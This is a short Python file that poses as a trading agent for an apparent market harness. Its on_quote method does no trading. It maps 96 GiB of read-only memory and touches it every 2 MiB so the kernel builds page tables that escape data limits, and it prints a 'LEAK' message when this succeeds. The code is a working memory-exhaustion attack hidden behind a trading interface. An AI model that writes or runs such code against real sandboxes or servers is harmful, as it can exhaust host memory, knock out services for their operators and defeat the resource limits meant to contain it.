import mmap

SPAN = 96 << 30
STRIDE = 2 << 20


class Trader:
    """Memory that is only ever read costs no page, but each 2 MiB of it a table of 4 KiB that no limit on data counts."""

    def on_quote(self, market, portfolio):
        try:
            area = mmap.mmap(-1, SPAN, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ)
        except (OSError, MemoryError) as refused:
            print("refused:", refused)
            return
        for place in range(0, SPAN, STRIDE):
            area[place]
        print("LEAK: page tables for", SPAN >> 30, "GiB")


def build_trader(universe):
    return Trader()
